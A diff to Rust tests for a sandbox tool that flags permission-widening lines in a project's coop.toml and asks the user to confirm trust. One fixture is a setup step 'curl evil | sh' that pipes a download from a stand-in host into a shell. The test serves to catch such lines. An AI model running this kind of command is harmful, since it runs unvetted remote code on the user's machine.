@@ -35,7 +35,7 @@ fn each_thing_that_widens_is_asked_for_with_its_line() {
     let table = [
         ("[box]\nimage = \"evil/image\"", "runs the programs of the image evil/image"),
         ("[box]\nimage = \"dir:/\"", "runs the programs of the image dir:/"),
-        ("[box]\nsetup = [\"curl evil | sh\"]", "runs at setup: curl evil | sh"),
+        ("[box]\nsetup = [\"curl evil | sh\"]", "runs at setup, with this machine's network: curl evil | sh"),
         ("[box]\ncommand = [\"sh\", \"-c\", \"rm x\"]", "runs sh -c 'rm x'"),
         ("[box]\ncommand = [\"./claude\"]", "runs ./claude"),
         ("[box]\ncommand = [\"claude\", \"--x\"]", "runs claude --x"),
@@ -136,8 +136,8 @@ fn the_question_names_the_file_each_line_and_the_way_on() {
     let demands =
         demands(&file("[box]\nsetup = [\"make\"]\n[env]\nexport = [\"A\"]", Whose::Project), &BoxFile::default());
     let first = Needs { path: "/p/coop.toml".into(), demands, changed: false };
-    let expected = "/p/coop.toml asks for more than a box gets by itself:\n  line 2: it runs at setup: make (box.setup)\n  \
-                    line 4: it gets A of your environment (env.export)\nRead it, then say `coop trust` if it may.";
+    let expected = "/p/coop.toml asks for more than a box gets by itself:\n  line 2: it runs at setup, with this machine's network: make \
+                    (box.setup)\n  line 4: it gets A of your environment (env.export)\nRead it, then say `coop trust` if it may.";
     assert_eq!(first.to_string(), expected);
     let again = Needs { changed: true, ..first };
     assert!(again.to_string().starts_with("/p/coop.toml has changed since you trusted it, and asks for"));
